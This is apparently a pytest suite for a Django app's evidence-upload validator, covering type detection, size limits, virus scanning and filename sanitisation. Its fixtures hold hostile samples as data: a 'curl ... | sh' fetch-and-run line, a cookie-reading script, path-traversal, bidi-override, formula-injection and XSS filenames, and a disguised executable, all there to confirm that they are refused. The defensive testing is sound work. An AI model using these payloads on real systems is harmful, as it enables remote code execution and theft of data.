"""accreditation/uploads.py: every allowed type accepted from its content, every refusal with its message."""

import hashlib
import io
import logging
import socket
import string
import unicodedata
import zipfile

import magic
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
from hypothesis import given
from hypothesis import strategies as st

from accreditation.uploads import (
    TYPE_NOT_ALLOWED_MESSAGE,
    CheckedUpload,
    UploadRefused,
    describe_size,
    inspect_upload,
    sanitise_filename,
)
from tests.accreditation.files import (
    EICAR,
    WORD_MAIN,
    csv_bytes,
    docx_bytes,
    jpeg_bytes,
    ods_bytes,
    odt_bytes,
    ooxml_package,
    pdf_bytes,
    png_bytes,
    xlsx_bytes,
    zip_bytes,
)
from tests.accreditation.files.clamd import FakeClamd

MB = 1024 * 1024
DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
ODT_TYPE = "application/vnd.oasis.opendocument.text"
ODS_TYPE = "application/vnd.oasis.opendocument.spreadsheet"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 200
OLE_DOC = bytes.fromhex("d0cf11e0a1b11ae1") + b"\x00" * 600  # a Word 97-2003 .doc's container
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>\n"
SHELL_SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"


@pytest.fixture(autouse=True)
def evidence_settings(settings):
    """Uploads as a developer's machine has them: the 20 MB limit and the EICAR stub."""
    settings.EVIDENCE_MAX_BYTES = 20 * MB
    settings.CLAMAV_SOCKET = ""
    settings.CLAMAV_HOST = ""
    return settings


def stored(package: bytes) -> bytes:
    """The same zip package with every member stored uncompressed."""
    source = zipfile.ZipFile(io.BytesIO(package))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as target:
        for info in source.infolist():
            target.writestr(info.filename, source.read(info))
    return buffer.getvalue()


def upload(name, content: bytes, content_type="application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


def refusal(uploaded) -> UploadRefused:
    with pytest.raises(UploadRefused) as caught:
        inspect_upload(uploaded)
    assert uploaded.tell() == 0, "a refused file is left at position 0 too"
    return caught.value


# --- Accepted ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [
        ("Living Wage policy.pdf", pdf_bytes(), "application/pdf"),
        ("Staff room.png", png_bytes(), "image/png"),
        ("Staff room.jpg", jpeg_bytes(), "image/jpeg"),
        ("Staff room.jpeg", jpeg_bytes(), "image/jpeg"),
        ("Wellbeing policy.docx", docx_bytes(), DOCX_TYPE),
        ("Pay rates.xlsx", xlsx_bytes(), XLSX_TYPE),
        ("Wellbeing policy.odt", odt_bytes(), ODT_TYPE),
        ("Pay rates.ods", ods_bytes(), ODS_TYPE),
        ("Pay rates.csv", csv_bytes("utf-8"), "text/csv"),
        ("Pay rates (Excel CSV UTF-8).csv", csv_bytes("utf-8-sig"), "text/csv"),
        ("Pay rates (Windows).csv", csv_bytes("cp1252"), "text/csv"),
        ("Two columns.csv", b"Name\nAlice\n", "text/csv"),
    ],
)
def test_each_allowed_type_is_accepted(name, content, content_type):
    """A real file of each allowed type passes, with the type judged from its content, its size and SHA-256."""
    uploaded = upload(name, content)
    checked = inspect_upload(uploaded)
    assert checked == CheckedUpload(
        safe_name=name,
        content_type=content_type,
        size=len(content),
        sha256=hashlib.sha256(content).hexdigest(),
        scanner="eicar-stub",
    )
    assert uploaded.tell() == 0
    assert uploaded.read() == content, "the caller can save the file as it came"


def test_checked_upload_is_frozen():
    """The result cannot be changed after the checks."""
    checked = inspect_upload(upload("policy.pdf", pdf_bytes()))
    with pytest.raises(AttributeError):
        checked.content_type = "text/html"


def test_the_browsers_content_type_is_ignored():
    """What the browser claims counts for nothing: a PNG sent as application/pdf is still a PNG."""
    assert inspect_upload(upload("photo.png", png_bytes(), "application/pdf")).content_type == "image/png"
    assert refusal(upload("photo.pdf", png_bytes(), "application/pdf")).code == UploadRefused.CONTENT_MISMATCH


def test_an_upper_case_extension_is_accepted_and_lowercased():
    """REPORT.PDF is a PDF; its safe name ends .pdf."""
    assert inspect_upload(upload("REPORT.PDF", pdf_bytes())).safe_name == "REPORT.pdf"


def test_a_windows_path_in_the_name_is_dropped():
    """Old browsers send the whole Windows path: only the file's own name is kept."""
    checked = inspect_upload(upload("C:\\Users\\sam\\Documents\\Pay policy.pdf", pdf_bytes()))
    assert checked.safe_name == "Pay policy.pdf"


def test_a_docx_that_libmagic_calls_a_plain_zip_is_accepted():
    """Member order varies by producer; libmagic 5.44 may then say application/zip, and the package decides."""
    content = docx_bytes(order=("_rels/.rels", "[Content_Types].xml", "word/document.xml"))
    assert magic.from_buffer(content, mime=True) == "application/zip"
    assert inspect_upload(upload("policy.docx", content)).content_type == DOCX_TYPE


def test_an_odt_with_its_mimetype_member_late_is_accepted():
    """An ODF package whose `mimetype` member is not first (libmagic: zip) is still judged by that member."""
    content = odt_bytes(mimetype_first=False)
    assert magic.from_buffer(content, mime=True) == "application/zip"
    assert inspect_upload(upload("policy.odt", content)).content_type == ODT_TYPE


def test_a_docx_whose_main_part_has_another_name_is_accepted():
    """The main part is whatever `_rels/.rels` names (Word Online writes word/document2.xml)."""
    content = ooxml_package("word/document2.xml", WORD_MAIN, "<w:document/>")
    assert inspect_upload(upload("policy.docx", content)).content_type == DOCX_TYPE


def test_a_file_of_exactly_the_limit_is_accepted(evidence_settings):
    """The limit is inclusive: a file of exactly EVIDENCE_MAX_BYTES bytes passes."""
    content = pdf_bytes()
    evidence_settings.EVIDENCE_MAX_BYTES = len(content)
    assert inspect_upload(upload("policy.pdf", content)).size == len(content)


def test_clamav_scans_the_file_when_configured(evidence_settings):
    """With CLAMAV_HOST set, the file is sent to clamd and the Evidence row will say "clamav" passed it."""
    content = pdf_bytes()
    with FakeClamd() as clamd:
        evidence_settings.CLAMAV_HOST, evidence_settings.CLAMAV_PORT = clamd.host, clamd.port
        checked = inspect_upload(upload("policy.pdf", content))
    assert checked.scanner == "clamav"
    assert clamd.received == content


# --- Refused -------------------------------------------------------------------------------------


def test_an_empty_file_is_refused():
    """A file of no bytes: "The selected file is empty"."""
    refused = refusal(upload("policy.pdf", b""))
    assert (refused.code, refused.message) == ("empty", "The selected file is empty")


def test_a_file_one_byte_over_20_mb_is_refused(tmp_path, settings):
    """20 MB + 1 byte (on disk, as Django keeps large uploads): "must be smaller than 20 MB"."""
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path)
    uploaded = TemporaryUploadedFile("policy.pdf", "application/pdf", 20 * MB + 1, None)
    uploaded.write(b"%PDF-1.4\n")
    block = b"\0" * MB
    while (left := 20 * MB + 1 - uploaded.tell()) > 0:
        uploaded.write(block[:left])
    uploaded.flush()
    assert uploaded.tell() == 20 * MB + 1
    refused = refusal(uploaded)
    assert (refused.code, refused.message) == ("too_large", "The selected file must be smaller than 20 MB")
    uploaded.close()


def test_a_file_whose_reported_size_understates_it_is_refused_by_its_bytes(evidence_settings):
    """The bytes decide, not the size the upload reports."""
    evidence_settings.EVIDENCE_MAX_BYTES = 1000
    uploaded = upload("policy.pdf", pdf_bytes())
    uploaded.size = 10
    assert refusal(uploaded).code == UploadRefused.TOO_LARGE


def test_the_size_message_follows_the_setting(evidence_settings):
    """Another limit gives its own figure in the message."""
    evidence_settings.EVIDENCE_MAX_BYTES = 5 * MB
    uploaded = upload("policy.pdf", pdf_bytes())
    uploaded.size = 5 * MB + 1
    assert refusal(uploaded).message == "The selected file must be smaller than 5 MB"


@pytest.mark.parametrize(
    ("size", "words"), [(20 * MB, "20 MB"), (MB + MB // 2, "1.5 MB"), (500 * 1024, "500 KB"), (900, "900 bytes")]
)
def test_sizes_are_described_in_the_units_people_use(size, words):
    """20 MB, 1.5 MB, 500 KB."""
    assert describe_size(size) == words


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("notes.txt", b"Some notes\n"),
        ("setup.exe", EXE),
        ("evidence.zip", zip_bytes({"policy.pdf": pdf_bytes()})),
        ("old policy.doc", OLE_DOC),
        ("banner.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"),
        ("page.html", HTML),
        ("policy", b"just some words\n"),
        ("install.sh", SHELL_SCRIPT),
    ],
)
def test_a_type_not_allowed_is_refused(name, content):
    """Anything but the eight allowed types, named as what it is: the list of allowed types."""
    refused = refusal(upload(name, content))
    assert (refused.code, refused.message) == ("type_not_allowed", TYPE_NOT_ALLOWED_MESSAGE)
    assert refused.message == (
        "The selected file must be a PDF, Word (DOCX), Excel (XLSX), OpenDocument text or spreadsheet, CSV, PNG or JPEG"
    )


MACRO_DOCX = ooxml_package(
    "word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml", "<w:document/>"
)
VBA_DOCX = docx_bytes(extra={"word/vbaProject.bin": "Attribute VB_Name"})
TEMPLATE_DOCX = ooxml_package(
    "word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml", "<x/>"
)
# libmagic 5.44 calls any zip whose first member is under word/ a Word document.
FAKE_WORD = zip_bytes({"word/readme.txt": "hello", "payload.exe": EXE})


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("photo.pdf", png_bytes(), "The selected file's content is not a PDF, although its name ends .pdf"),
        ("invoice.pdf", EXE, "The selected file's content is not a PDF, although its name ends .pdf"),
        ("invoice.pdf", SHELL_SCRIPT, "The selected file's content is not a PDF, although its name ends .pdf"),
        ("invoice.pdf", b"%!PS-Adobe-3.0\n", "The selected file's content is not a PDF, although its name ends .pdf"),
        ("notes.pdf", b"Plain words\n", "The selected file's content is not a PDF, although its name ends .pdf"),
        ("staff.csv", HTML, "The selected file's content is not a CSV file, although its name ends .csv"),
        ("staff.csv", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "The selected file's content is not a CSV file, "
         "although its name ends .csv"),
        ("staff.csv", xlsx_bytes(), "The selected file's content is not a CSV file, although its name ends .csv"),
        ("photo.jpg", png_bytes(), "The selected file's content is not a JPEG image, although its name ends .jpg"),
        ("photo.png", jpeg_bytes(), "The selected file's content is not a PNG image, although its name ends .png"),
        ("photo.png", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "The selected file's content is not a PNG image, "
         "although its name ends .png"),
        ("policy.docx", zip_bytes({"a.txt": "hello"}), "The selected file's content is not a Word (DOCX) document, "
         "although its name ends .docx"),
        ("policy.docx", FAKE_WORD, "The selected file's content is not a Word (DOCX) document, "
         "although its name ends .docx"),
        ("policy.docx", MACRO_DOCX, "The selected file's content is not a Word (DOCX) document, "
         "although its name ends .docx"),
        ("policy.docx", VBA_DOCX, "The selected file's content is not a Word (DOCX) document, "
         "although its name ends .docx"),
        ("policy.docx", TEMPLATE_DOCX, "The selected file's content is not a Word (DOCX) document, "
         "although its name ends .docx"),
        ("policy.docx", docx_bytes()[:400], "The selected file's content is not a Word (DOCX) document, "
         "although its name ends .docx"),
        ("policy.docx", xlsx_bytes(), "The selected file's content is not a Word (DOCX) document, "
         "although its name ends .docx"),
        ("policy.docx", pdf_bytes(), "The selected file's content is not a Word (DOCX) document, "
         "although its name ends .docx"),
        ("rates.xlsx", docx_bytes(), "The selected file's content is not an Excel (XLSX) spreadsheet, "
         "although its name ends .xlsx"),
        ("rates.ods", odt_bytes(), "The selected file's content is not an OpenDocument spreadsheet, "
         "although its name ends .ods"),
        ("policy.odt", odt_bytes(content=False), "The selected file's content is not an OpenDocument text document, "
         "although its name ends .odt"),
    ],
)  # fmt: skip
def test_content_that_does_not_match_the_name_is_refused(name, content, message):
    """A file whose name says one allowed type and whose bytes say anything else."""
    refused = refusal(upload(name, content))
    assert (refused.code, refused.message) == ("content_mismatch", message)


def test_libmagic_is_fooled_by_a_fake_the_package_check_catches():
    """Pins why zips are opened: libmagic 5.44 alone calls any zip whose first member is under word/ a DOCX."""
    assert magic.from_buffer(FAKE_WORD, mime=True) == DOCX_TYPE


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("policy", pdf_bytes(), "The selected file is a PDF, so its name must end .pdf"),
        ("policy.exe", pdf_bytes(), "The selected file is a PDF, so its name must end .pdf"),
        ("photo.gif", jpeg_bytes(), "The selected file is a JPEG image, so its name must end .jpg or .jpeg"),
        ("policy.doc", docx_bytes(), "The selected file is a Word (DOCX) document, so its name must end .docx"),
        # A right-to-left override would show "policyexe.pdf"; removed, the name really ends .exe.
        ("policy\u202efdp.exe", pdf_bytes(), "The selected file is a PDF, so its name must end .pdf"),
    ],
)
def test_an_allowed_type_with_another_extension_is_refused(name, content, message):
    """An allowed file whose name lacks its extension is refused with the ending it needs, not renamed."""
    refused = refusal(upload(name, content))
    assert (refused.code, refused.message) == ("wrong_extension", message)


@pytest.mark.parametrize(
    "content",
    [
        pytest.param("Name,Wage\nAlice,12.60\n".encode("utf-16"), id="utf-16"),
        pytest.param(b"Name,Wage\n" + b"Alice,12.60\n" * 1000 + b"Bob\0,1\n", id="nul-after-the-first-8-kb"),
        pytest.param(b"Name,Wage\nAl\x81\xffce,12.60\n", id="neither-utf-8-nor-windows-1252"),
    ],
)
def test_a_csv_in_another_encoding_is_refused(content):
    """CSV must be UTF-8 (BOM or not) or Windows-1252, with no NUL bytes: the message names Excel's option."""
    refused = refusal(upload("staff.csv", content))
    assert (refused.code, refused.message) == ("csv_encoding", 'The selected file must be saved as "CSV UTF-8"')


@pytest.mark.parametrize(
    ("name", "content"),
    [
        pytest.param("policy.pdf", pdf_bytes() + b"%" + EICAR + b"\n", id="pdf"),
        pytest.param("staff.csv", EICAR, id="csv"),
        # The stub reads raw bytes (ClamAV unpacks zips itself), so the member is stored uncompressed here.
        pytest.param("policy.docx", stored(docx_bytes(extra={"customXml/item1.xml": EICAR})), id="docx"),
    ],
)
def test_a_file_with_a_virus_is_refused(name, content):
    """The EICAR test string in an otherwise valid file: "contains a virus", and the signature is kept for logs."""
    refused = refusal(upload(name, content))
    assert (refused.code, refused.message) == ("virus", "The selected file contains a virus and cannot be uploaded")
    assert refused.signature == "Eicar-Test-Signature"


def test_clamav_finding_a_virus_refuses_the_file(evidence_settings):
    """clamd's FOUND verdict refuses the file, with clamd's signature name."""
    with FakeClamd() as clamd:
        evidence_settings.CLAMAV_HOST, evidence_settings.CLAMAV_PORT = clamd.host, clamd.port
        refused = refusal(upload("policy.pdf", pdf_bytes() + b"%" + EICAR + b"\n"))
    assert (refused.code, refused.signature) == ("virus", "Eicar-Signature")


def test_a_scanner_that_cannot_be_reached_refuses_the_file(evidence_settings, caplog):
    """Fail closed: no verdict means no upload, "Try again later", and an error in the log."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    evidence_settings.CLAMAV_HOST, evidence_settings.CLAMAV_PORT = "127.0.0.1", port
    with caplog.at_level(logging.ERROR, logger="accreditation.uploads"):
        refused = refusal(upload("policy.pdf", pdf_bytes()))
    assert (refused.code, refused.message) == (
        "scan_failed",
        "The file could not be checked for viruses. Try again later",
    )
    assert "could not be scanned" in caplog.text


def test_a_scanner_that_times_out_refuses_the_file(evidence_settings):
    """A clamd that never answers: refused as not checked once CLAMAV_TIMEOUT passes."""
    with FakeClamd(mode="silent") as clamd:
        evidence_settings.CLAMAV_HOST, evidence_settings.CLAMAV_PORT = clamd.host, clamd.port
        evidence_settings.CLAMAV_TIMEOUT = 0.3
        assert refusal(upload("policy.pdf", pdf_bytes())).code == UploadRefused.SCAN_FAILED


def test_type_checks_come_before_the_scan(evidence_settings):
    """A file of a type not allowed is refused for its type, without troubling the scanner."""
    with FakeClamd() as clamd:
        evidence_settings.CLAMAV_HOST, evidence_settings.CLAMAV_PORT = clamd.host, clamd.port
        assert refusal(upload("setup.exe", EXE + EICAR)).code == UploadRefused.TYPE_NOT_ALLOWED
    assert clamd.commands == []


# --- Names ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("Living Wage policy.pdf", "Living Wage policy.pdf"),
        ("C:\\Users\\sam\\Documents\\Pay policy.PDF", "Pay policy.pdf"),
        ("../../etc/passwd", "passwd"),
        ("..\\..\\boot.ini", "boot.ini"),
        ("/var/www/.htaccess", "evidence.htaccess"),
        (".pdf", "evidence.pdf"),
        ("...", "evidence"),
        ("", "evidence"),
        (None, "evidence"),
        ("Café  menu\t(2024)\n.pdf", "Café menu (2024).pdf"),
        ("résumé.docx", "résumé.docx"),
        ("report\u202efdp.exe", "reportfdp.exe"),
        ("report.pdf\x00.exe", "report.pdf.exe"),
        ("report.pdf.", "report.pdf"),
        ("<b onmouseover=alert(1)>.pdf", "b onmouseoveralert(1).pdf"),
        ("=1+2;cmd.csv", "12cmd.csv"),
        ("-rf .pdf", "rf.pdf"),
        ("CON.pdf", "CON_.pdf"),
        ("nul.tar.gz", "nul_.tar.gz"),
        ("ｐｏｌｉｃｙ．ＰＤＦ", "policy.pdf"),
        ("evil／..／policy.pdf", "policy.pdf"),
        ("ﬁnal.pdf", "final.pdf"),
        ("a" * 300 + ".PDF", "a" * 96 + ".pdf"),
        ("a" * 300, "a" * 100),
    ],
)
def test_sanitise_filename_examples(name, safe):
    """Paths, control and format characters, leading dots, look-alikes, device names and long names."""
    assert sanitise_filename(name) == safe


SAFE_CHARACTERS = set(" -_.()")


def assert_safe(result: str):
    assert result
    assert len(result) <= 100
    assert all(character.isalnum() or character in SAFE_CHARACTERS for character in result), result
    assert not result.startswith((".", "-", " "))
    assert not result.endswith((".", " "))
    assert "  " not in result


@given(st.text(max_size=400))
def test_sanitise_filename_always_gives_a_safe_name(name):
    """For any text: not empty, at most 100 characters, only safe characters, stable when applied again."""
    result = sanitise_filename(name)
    assert_safe(result)
    assert sanitise_filename(result) == result


ASCII_STEMS = st.text(alphabet=string.ascii_letters + string.digits + " -_()", min_size=1, max_size=150)
EXTENSIONS = st.text(alphabet=string.ascii_letters + string.digits, min_size=1, max_size=10)


@given(st.text(max_size=50), st.sampled_from(["/", "\\"]), ASCII_STEMS, EXTENSIONS)
def test_sanitise_filename_keeps_only_the_last_path_part_and_the_extension(folder, separator, stem, extension):
    """Whatever the folders, only the file's own name is kept, with its extension lowercased."""
    result = sanitise_filename(f"{folder}{separator}{stem}.{extension}")
    assert_safe(result)
    assert result == sanitise_filename(f"{stem}.{extension}")
    assert result.endswith(f".{extension.lower()}")


@given(st.text(alphabet=st.characters(categories=["Cc", "Cf", "Zl", "Zp"]), min_size=1, max_size=20))
def test_sanitise_filename_removes_control_and_format_characters(noise):
    """Control characters and invisible format characters (bidi overrides, zero-width) never survive."""
    result = sanitise_filename(f"pay{noise}policy.pdf")
    assert result in {"paypolicy.pdf", "pay policy.pdf"}
    assert all(unicodedata.category(character)[0] != "C" for character in result)
